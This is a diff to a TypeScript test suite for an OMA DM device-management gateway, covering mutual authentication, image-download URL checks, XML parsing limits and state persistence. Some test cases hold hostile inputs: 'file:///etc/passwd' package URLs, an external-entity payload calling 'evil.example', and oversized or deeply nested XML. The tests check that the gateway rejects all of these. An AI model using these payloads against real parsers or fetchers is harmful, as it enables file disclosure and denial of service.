@@ -2,9 +2,20 @@
 import { createHash } from 'node:crypto'
 import { describe, expect, test } from 'vitest'
 import { makeClient } from '../../core/device/client.ts'
+import { DEVICE_PROFILES } from '../../core/device/profiles.ts'
 import { parseAcl } from '../../core/dmtree/acl.ts'
 import { generic } from '../../core/gateway/inventory.ts'
-import { OUR_ROOTS, fanoutCommand, fanoutNodes, fanoutStart, imageData, imageDownload, imageExpiry, imageNodes, scomoDirect } from '../../core/gateway/orders.ts'
+import {
+  OUR_ROOTS,
+  fanoutCommand,
+  fanoutNodes,
+  fanoutStart,
+  imageData,
+  imageDownload,
+  imageExpiry,
+  imageNodes,
+  scomoDirect,
+} from '../../core/gateway/orders.ts'
 import type { FanoutOrder } from '../../core/gateway/orders.ts'
 import { readAggregation, registrationText } from '../../core/gateway/payloads.ts'
 import { ALERTS } from '../../core/mo/gwmo.ts'
@@ -32,7 +43,8 @@ const item = (kind: 'Add' | 'Replace', locUri: string, data: string, format = 'c
   items: [{ target: { locUri }, meta: { format }, data }],
 })
 const get = (locUri: string): Command => ({ kind: 'Get', cmdId: '', items: [{ target: { locUri } }] })
-const headerCodes = ({ message }: Passed): number[] => message.commands.flatMap((each) => (each.kind === 'Status' && each.cmd === 'SyncHdr' ? [each.code] : []))
+const headerCodes = ({ message }: Passed): number[] =>
+  message.commands.flatMap((each) => (each.kind === 'Status' && each.cmd === 'SyncHdr' ? [each.code] : []))
 const ordered = ({ message }: Passed): boolean => message.commands.some(({ kind }) => kind !== 'Status' && kind !== 'Alert' && kind !== 'Results')
 const alertTypes = (world: World): string[] => world.alerts.map(({ items }) => items[0]?.type ?? '')
 
@@ -54,19 +66,36 @@ function codes(world: World, ...commands: readonly Command[]): number[] {
 }
 
 describe('gw 79: GS-04 client and server prove themselves to each other on both sides of the gateway', () => {
-  test('gw 79: in every session both have shown credentials and were told so before a command passes', () => {
-    const world = proxied()
+  /** Device `n`, which wants its gateway to prove itself. */
+  const strict = (world: World, n: number): void => {
+    const setup = { id: ed(n), serverUri: GW, user: 'lab', password: 'lab', serverId: 'gw1.example', serverPassword: 'lab' }
+    const client = makeClient({ ...setup, auth: 'syncml:auth-md5', encoding: 'xml', profile: DEVICE_PROFILES.strict }, world.env)
+    world.devices.set(ed(n), client)
+  }
+
+  test('gw 79: in every session both have shown credentials that were accepted before a command is performed', () => {
+    const world = new World()
+    for (const n of [1, 2]) {
+      strict(world, n)
+      expect(world.visit(n)).toBe('completed')
+    }
+    world.reports()
     world.order([...fanoutNodes(OUR_ROOTS, job('j', { devices: [ed(1), ed(2)] })), fanoutStart(OUR_ROOTS, 'j', 'c')])
     expect(world.report()).toBe('completed')
     for (const n of [1, 2]) expect(world.visit(n)).toBe('completed')
     world.reports()
-    for (const leg of ['S-G', `G-D ${ed(1)}`, `G-D ${ed(2)}`]) {
-      const passed = world.wire.filter((each) => each.leg === leg)
-      const first = passed.findIndex((each) => !each.up && ordered(each))
-      const proof = passed.slice(0, Math.max(first, 2) + 1)
-      const accepted = (up: boolean): boolean => proof.some((each) => each.up === up && headerCodes(each).some((code) => code === 200 || code === 212))
-      expect([leg, proof.some(({ up, message }) => up && message.header.cred !== undefined), accepted(false)]).toEqual([leg, true, true])
-      expect([leg, proof.some(({ up, message }) => !up && message.header.cred !== undefined)]).toEqual([leg, true])
+    expect(alertTypes(world).at(-1)).toBe(ALERTS.completion.type)
+    const sessions = Map.groupBy(world.wire, ({ leg, message }) => `${leg} ${message.header.sessionId}`)
+    const commanded = [...sessions.values()].filter((passed) => passed.some((each) => !each.up && ordered(each)))
+    expect(new Set(commanded.map(([first]) => first?.leg))).toEqual(new Set(['S-G', `G-D ${ed(1)}`, `G-D ${ed(2)}`]))
+    for (const passed of commanded) {
+      const shown = (up: boolean): number => passed.findIndex((each) => each.up === up && each.message.header.cred !== undefined)
+      const accepted = (up: boolean): number => passed.findIndex((each, at) => each.up === up && at > shown(!up) && headerCodes(each).includes(212))
+      const done = passed.findIndex(
+        ({ up, message }) => up && message.commands.some((each) => each.kind === 'Status' && each.cmd !== 'SyncHdr' && each.code < 300),
+      )
+      expect([shown(true) >= 0, shown(false) >= 0, done > shown(false), done > shown(true)]).toEqual([true, true, true, true])
+      expect([accepted(true) > shown(false), accepted(false) > shown(true)], 'told so').toEqual([true, true])
     }
   })
 
@@ -86,7 +115,9 @@ describe('gw 79: GS-04 client and server prove themselves to each other on both 
   })
 
   test('gw 79: a device does nothing for a gateway that cannot prove itself', () => {
-    const world = proxied()
+    const world = new World()
+    strict(world, 1)
+    world.visit(1)
     const command = fanoutCommand([{ kind: 'Replace', locUri: './Vendor/DMLab/Settings/Text', data: 'of an impostor' }])
     codes(world, ...fanoutNodes(OUR_ROOTS, job('j', { command })), fanoutStart(OUR_ROOTS, 'j', 'c'))
     world.south.ledger.accounts.forEach((account, at, all) => (all[at] = { ...account, serverPassword: 'guessed' }))
@@ -163,19 +194,29 @@ describe('images', () => {
     expect(alertTypes(world)).toEqual([ALERTS.imageReady.type])
   })
 
-  test.each(['file:///etc/passwd', 'ftp://ads/p.bin', 'data:,x', 'gopher://ads/p', 'javascript:0', '/etc/passwd', '//ads/p.bin', ' http://ads/p.bin', 'httpx://ads/p'])(
-    'gw 93: GS-18 the gateway does not fetch %s: 406',
-    (pkgUrl) => {
-      const world = proxied(1)
-      expect(codes(world, node('P', { pkgUrl }), imageDownload(OUR_ROOTS, 'P', ''))).toEqual([200, 406])
-      expect(world.fetches).toEqual([])
-      expect(world.gateway.images.get('P')?.state).toBe(10)
-    },
-  )
+  test.each([
+    'file:///etc/passwd',
+    'ftp://ads/p.bin',
+    'data:,x',
+    'gopher://ads/p',
+    'javascript:0',
+    '/etc/passwd',
+    '//ads/p.bin',
+    ' http://ads/p.bin',
+    'httpx://ads/p',
+  ])('gw 93: GS-18 the gateway does not fetch %s: 406', (pkgUrl) => {
+    const world = proxied(1)
+    expect(codes(world, node('P', { pkgUrl }), imageDownload(OUR_ROOTS, 'P', ''))).toEqual([200, 406])
+    expect(world.fetches).toEqual([])
+    expect(world.gateway.images.get('P')?.state).toBe(10)
+  })
 
   test('gw 93: GS-18 http and https are fetched, and only for a server that has the right', () => {
     const world = proxied(1)
-    for (const [name, pkgUrl] of [['A', 'http://ads/a.bin'], ['B', 'HTTPS://ads/b.bin']] as const) {
+    for (const [name, pkgUrl] of [
+      ['A', 'http://ads/a.bin'],
+      ['B', 'HTTPS://ads/b.bin'],
+    ] as const) {
       expect(codes(world, node(name, { pkgUrl }), imageDownload(OUR_ROOTS, name, ''))).toEqual([200, 202])
     }
     expect(world.fetches.map(({ url }) => url)).toEqual(['http://ads/a.bin', 'HTTPS://ads/b.bin'])
@@ -208,7 +249,11 @@ describe('images', () => {
     const world = proxied(2)
     codes(world, node('PKG1'), imageData(OUR_ROOTS, 'PKG1', bytes))
     const command = scomoDirect('PKG1').split('./SCOMO/Inventory/Delivered/PKG1').join('./Vendor/DMLab/Scratch/PKG1')
-    codes(world, ...fanoutNodes(OUR_ROOTS, job('j', { devices: [ed(1), ed(2)], imageRef: 'PKG1', command })), fanoutStart(OUR_ROOTS, 'j', 'c'))
+    codes(
+      world,
+      ...fanoutNodes(OUR_ROOTS, job('j', { devices: [ed(1), ed(2)], imageRef: 'PKG1', command, timeout: 3600 })),
+      fanoutStart(OUR_ROOTS, 'j', 'c'),
+    )
     let chunks = 0
     world.meanwhile = ({ leg, up, message }) => {
       const more = leg.startsWith('G-D') && up && message.commands.some((each) => each.kind === 'Status' && each.code === 213)
@@ -222,9 +267,9 @@ describe('images', () => {
     expect(world.gateway.fanouts.job('j')?.responses.map(({ code }) => code)).toEqual([200, 410])
     world.told.length = 0
     expect(codes(world, imageExpiry(OUR_ROOTS, 'PKG1', 60), imageData(OUR_ROOTS, 'PKG1', bytes.subarray(0, 10)))).toEqual([403, 403])
-    expect(codes(world, item('Replace', './GwMO/Images/Images/PKG1/PkgURL', 'http://ads/p.bin'))).toEqual([404])
+    expect(codes(world, item('Add', './GwMO/Images/Images/PKG1/PkgURL', 'http://ads/p.bin'))).toEqual([403])
     expect(codes(world, get('./GwMO/Images/Images/PKG1/Expiry'))).toEqual([200])
-    expect(world.told.filter((each) => each.includes('dms.example') && each.includes('PKG1 has expired'))).toHaveLength(2)
+    expect(world.told.filter((each) => each.includes('dms.example') && each.includes('PKG1 has expired'))).toHaveLength(3)
   })
 })
 
@@ -236,7 +281,10 @@ describe('gw 92: GS-17 documents are read without entities and with bounds', () 
   test.each([
     ['an external entity', `${ENTITY}<FanoutCommand>${GET}</FanoutCommand>`],
     ['an entity nobody declared', `<FanoutCommand>${GET.replace('./DevDetail/FwV', '&secret;')}</FanoutCommand>`],
-    ['an external subset with a parameter entity', `<!DOCTYPE FanoutCommand [<!ENTITY % all SYSTEM "http://evil.example/x.dtd"> %all;]><FanoutCommand>${GET}</FanoutCommand>`],
+    [
+      'an external subset with a parameter entity',
+      `<!DOCTYPE FanoutCommand [<!ENTITY % all SYSTEM "http://evil.example/x.dtd"> %all;]><FanoutCommand>${GET}</FanoutCommand>`,
+    ],
     ['a thousand levels', `<FanoutCommand>${deep(1000)}</FanoutCommand>`],
     ['a hundred thousand elements', `<FanoutCommand>${GET.repeat(20_000)}</FanoutCommand>`],
   ])('gw 92: a command list with %s is 415, and the job does not start', (_, command) => {
@@ -260,7 +308,9 @@ describe('gw 92: GS-17 documents are read without entities and with bounds', () 
     const text = registrationText({ deviceId: ed(3), device: { type: 'IPv4', address: '192.0.2.23' }, servers: ['dms.example'] })
     const register = (data: string): void => void world.visit(3, { alerts: [generic(ALERTS.registration.type, 'xml', '', data, 'informational')] })
     register(spoil(text))
-    const answers = world.wire.filter(({ up }) => !up).flatMap(({ message }) => message.commands.flatMap((each) => (each.kind === 'Status' && each.cmd === 'Alert' ? [each.code] : [])))
+    const answers = world.wire
+      .filter(({ up }) => !up)
+      .flatMap(({ message }) => message.commands.flatMap((each) => (each.kind === 'Status' && each.cmd === 'Alert' ? [each.code] : [])))
     expect(answers).toContain(412)
     expect(world.gateway.devices.records()).toEqual([])
     register(text)
@@ -277,7 +327,13 @@ describe('gw 95: GS-20 what must last', () => {
     for (const n of [1, 2]) world.visit(n)
     world.reports()
     const uris = ['Devices/Inventory/Records/ed1/Mode', 'Devices/Inventory/Records/ed2/DeviceID', 'Fanout/Fanout/j/State', 'Fanout/Fanout/j/Result']
-    const all = [...uris, 'Fanout/Fanout/j/Responses/ed1/Data', 'Fanout/Fanout/j/Responses/ed2/Data', 'Images/Images/PKG1/Size', 'Images/Images/PKG1/ImageURL']
+    const all = [
+      ...uris,
+      'Fanout/Fanout/j/Responses/ed1/Data',
+      'Fanout/Fanout/j/Responses/ed2/Data',
+      'Images/Images/PKG1/Size',
+      'Images/Images/PKG1/ImageURL',
+    ]
     const read = (): string[] => {
       const id = world.order(all.map((uri) => get(`./GwMO/${uri}`)))
       world.report()
@@ -288,7 +344,10 @@ describe('gw 95: GS-20 what must last', () => {
     expect(before[4]).toContain('1.0.7')
     world.restart()
     expect(read()).toEqual(before)
-    expect(world.gateway.devices.records().map(({ deviceId, state }) => [deviceId, state])).toEqual([[ed(1), 30], [ed(2), 30]])
+    expect(world.gateway.devices.records().map(({ deviceId, state }) => [deviceId, state])).toEqual([
+      [ed(1), 30],
+      [ed(2), 30],
+    ])
     world.notified.length = 0
     world.reports()
     expect(world.notified, 'nothing is done again').toEqual([])
